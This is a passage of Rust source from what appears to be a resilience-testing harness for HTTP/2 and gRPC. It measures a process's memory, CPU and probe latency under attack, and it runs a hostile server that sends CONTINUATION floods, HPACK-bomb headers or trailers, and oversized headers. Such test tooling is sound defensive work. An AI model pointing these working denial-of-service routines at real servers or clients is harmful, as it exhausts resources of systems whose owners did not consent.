            "{name}: rss {:.1} MiB -> peak +{:.1} MiB, after +{:.1} MiB; cpu {:.2}s in {:.1}s; \
             probes {} (max {} ms, median {} ms, {} failed{}); sent {:.1} MiB in {} frames, {} streams; \
             server: {}",
            self.rss_before as f64 / 1024.0,
            self.peak_growth_mib(),
            self.after_growth_mib(),
            self.cpu.as_secs_f64(),
            self.elapsed.as_secs_f64(),
            self.probes.latencies.len() + self.probes.failures as usize,
            self.probes.max().as_millis(),
            self.probes.median().as_millis(),
            self.probes.failures,
            self.probes
                .first_failure
                .as_ref()
                .map(|f| format!(": {f}"))
                .unwrap_or_default(),
            self.outcome.sent as f64 / (1024.0 * 1024.0),
            self.outcome.frames,
            self.outcome.streams,
            self.outcome.reaction(),
        )
    }
}

/// Runs `attack` against server process `pid`, sampling its RSS every 10 ms, while `probe`
/// (one call on a fresh connection; `Err` with a message on failure) runs every
/// `probe_every` with `probe_timeout`. Once the attack is over, waits up to `settle` for the
/// server's RSS to come back down before reading `rss_after`.
pub async fn measure<A, P, PF>(
    pid: u32,
    attack: A,
    mut probe: P,
    probe_every: Duration,
    probe_timeout: Duration,
    settle: Duration,
) -> Report
where
    A: Future<Output = Outcome>,
    P: FnMut() -> PF,
    PF: Future<Output = Result<(), String>>,
{
    let rss_before = procfs::vm_kib(pid, "VmRSS").unwrap_or(0);
    let cpu_before = procfs::cpu(pid).unwrap_or_default();
    let start = Instant::now();
    let peak = Arc::new(Mutex::new(rss_before));
    let done = Arc::new(std::sync::atomic::AtomicBool::new(false));
    let sampler = {
        let (peak, done) = (peak.clone(), done.clone());
        tokio::spawn(async move {
            while !done.load(std::sync::atomic::Ordering::Relaxed) {
                if let Some(rss) = procfs::vm_kib(pid, "VmRSS") {
                    if let Ok(mut peak) = peak.lock() {
                        *peak = (*peak).max(rss);
                    }
                }
                tokio::time::sleep(Duration::from_millis(10)).await;
            }
        })
    };
    let probing = async {
        let mut probes = Probes::default();
        // The first probe waits a moment so the attack is under way.
        tokio::time::sleep(probe_every.min(Duration::from_millis(100))).await;
        while !done.load(std::sync::atomic::Ordering::Relaxed) {
            let t = Instant::now();
            match tokio::time::timeout(probe_timeout, probe()).await {
                Ok(Ok(())) => probes.latencies.push(t.elapsed()),
                Ok(Err(e)) => {
                    probes.failures += 1;
                    probes.first_failure.get_or_insert(e);
                }
                Err(_) => {
                    probes.failures += 1;
                    probes
                        .first_failure
                        .get_or_insert(format!("no answer within {probe_timeout:?}"));
                }
            }
            let next = t + probe_every;
            if let Some(wait) = next.checked_duration_since(Instant::now()) {
                tokio::time::sleep(wait).await;
            }
        }
        probes
    };
    let attacking = async {
        let outcome = attack.await;
        done.store(true, std::sync::atomic::Ordering::Relaxed);
        outcome
    };
    let (outcome, probes) = tokio::join!(attacking, probing);
    let elapsed = start.elapsed();
    let cpu = procfs::cpu(pid)
        .unwrap_or_default()
        .saturating_sub(cpu_before);
    let _ = sampler.await;
    let rss_peak = peak.lock().map(|p| *p).unwrap_or(0);
    // Memory given back shows within a moment; wait for it up to `settle`.
    let settle_until = Instant::now() + settle;
    let mut rss_after = procfs::vm_kib(pid, "VmRSS").unwrap_or(0);
    while Instant::now() < settle_until && rss_after > rss_before + 4096 {
        tokio::time::sleep(Duration::from_millis(50)).await;
        rss_after = procfs::vm_kib(pid, "VmRSS").unwrap_or(0);
    }
    Report {
        outcome,
        rss_before,
        rss_peak: rss_peak.max(rss_before),
        rss_after,
        cpu,
        elapsed,
        probes,
    }
}

/// How a hostile server answers the first request it gets.
#[derive(Clone, Copy, Debug)]
pub enum ServerAttack {
    /// A response HEADERS frame without END_HEADERS, then CONTINUATION frames without end.
    ContinuationFlood,
    /// A response head whose block references a 4 KB dynamic-table entry 4,000 times.
    HpackBombHeaders,
    /// A response head with one 20 KB header: over the client's list limit, under the
    /// GOAWAY threshold.
    OversizedHeaders,
    /// A valid response head and message, then trailers that are an HPACK bomb.
    HpackBombTrailers,
}

/// What the hostile server managed to send and how the client reacted.
#[derive(Clone, Debug, Default)]
pub struct ServerOutcome {
    pub sent: u64,
    /// GOAWAY frames from the client, as `CODE debug`.
    pub goaways: Vec<String>,
    /// RST_STREAM codes from the client.
    pub resets: Vec<&'static str>,
    /// The client closed the connection.
    pub closed: bool,
}

/// Serves one connection on `listener` as a hostile server: answers the first request with
/// `attack`, writing for at most `limit` or until the client gives up.
pub async fn hostile_server(
    listener: tokio::net::TcpListener,
    attack: ServerAttack,
    limit: Duration,
) -> ServerOutcome {
    let deadline = Instant::now() + limit;
    let Ok((tcp, _)) = listener.accept().await else {
        return ServerOutcome::default();
    };
    let (mut read, mut write) = tcp.into_split();
    let mut preface = [0u8; 24];
    if tokio::io::AsyncReadExt::read_exact(&mut read, &mut preface)
        .await
        .is_err()
    {
        return ServerOutcome::default();
    }
    let seen = Arc::new(Mutex::new(ServerOutcome::default()));
    let (stream_tx, stream_rx) = tokio::sync::oneshot::channel();
    let reader = {
        let seen = seen.clone();
        tokio::spawn(async move {
            let mut stream_tx = Some(stream_tx);
            loop {
                let Ok(frame) = h2raw::read_frame(&mut read, 1 << 24).await else {
                    break;
                };
                let Ok(mut seen) = seen.lock() else { break };
                match frame.kind {
                    kind::HEADERS => {
                        if let Some(tx) = stream_tx.take() {
                            let _ = tx.send(frame.stream);
                        }
                    }
                    kind::GOAWAY => {
                        if let Some((code, debug)) = frame.goaway() {
                            seen.goaways.push(
                                format!("{} {debug}", h2raw::error_name(code))
                                    .trim()
                                    .to_owned(),
                            );
                        }
                    }
                    kind::RST_STREAM => {
                        if let Some(code) = frame.rst_code() {
                            seen.resets.push(h2raw::error_name(code));
                        }
                    }
                    _ => {}
                }
            }
            if let Ok(mut seen) = seen.lock() {
                seen.closed = true;
            }
        })
    };
    let sent = std::sync::atomic::AtomicU64::new(0);
    let send = |bytes: Vec<u8>| {
        sent.fetch_add(bytes.len() as u64, std::sync::atomic::Ordering::Relaxed);
        bytes
    };
    let hello = [h2raw::settings(&[]), h2raw::settings_ack()].concat();
    if write.write_all(&send(hello)).await.is_err() {
        return ServerOutcome::default();
    }
    let stream = match tokio::time::timeout(Duration::from_secs(5), stream_rx).await {
        Ok(Ok(stream)) => stream,
        _ => return ServerOutcome::default(),
    };
    let done = |seen: &Arc<Mutex<ServerOutcome>>| {
        seen.lock()
            .map(|s| s.closed || !s.goaways.is_empty())
            .unwrap_or(true)
    };
    match attack {
        ServerAttack::ContinuationFlood => {
            let mut block = hpack::grpc_response();
            block.push(0x00);
            hpack::string(&mut block, b"x-flood");
            hpack::int(&mut block, 7, 0, 1 << 27);
            let mut out = h2raw::headers(stream, false, false, &block);
            // The client did not raise SETTINGS_MAX_FRAME_SIZE for us: 16 KiB frames.
            let filler = h2raw::continuation(stream, false, &[b'a'; 16_384]);
            while Instant::now() < deadline
                && !done(&seen)
                && sent.load(std::sync::atomic::Ordering::Relaxed) < (64 << 20)
            {
                out.extend(filler.repeat(4));
                let batch = send(std::mem::take(&mut out));
                let timeout = tokio::time::Instant::from_std(deadline);
                if !matches!(
                    tokio::time::timeout_at(timeout, write.write_all(&batch)).await,
                    Ok(Ok(()))
                ) {
                    break;
                }
            }
        }
        ServerAttack::HpackBombHeaders | ServerAttack::OversizedHeaders => {
            let mut block = hpack::grpc_response();
            if let ServerAttack::HpackBombHeaders = attack {
                hpack::literal_indexed(&mut block, b"x-bomb", &[b'a'; 4000]);
                for _ in 0..4_000 {
                    hpack::indexed(&mut block, 62);
                }
            } else {
                hpack::literal(&mut block, b"x-big", &[b'b'; 20_000]);
            }
            let (frames, _) = header_frames(stream, &block, 16_384, false);
            let _ = write.write_all(&send(frames)).await;
        }
        ServerAttack::HpackBombTrailers => {
            let mut out = h2raw::headers(stream, true, false, &hpack::grpc_response());
            out.extend(h2raw::data(stream, false, &h2raw::grpc_message(0, &[])));
            let mut block = Vec::new();
            hpack::literal(&mut block, b"grpc-status", b"0");
            hpack::literal_indexed(&mut block, b"x-bomb", &[b'a'; 4000]);
            for _ in 0..4_000 {
                hpack::indexed(&mut block, 62);
            }
            let (frames, _) = header_frames(stream, &block, 16_384, true);
            out.extend(frames);
            let _ = write.write_all(&send(out)).await;
        }
    }
    // Let the client's reaction arrive.
    let wait_until = Instant::now() + Duration::from_secs(2);
    while Instant::now() < wait_until && !done(&seen) {
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    tokio::time::sleep(Duration::from_millis(50)).await;
    reader.abort();
    let mut outcome = seen.lock().map(|s| s.clone()).unwrap_or_default();
    outcome.sent = sent.into_inner();
    outcome
}
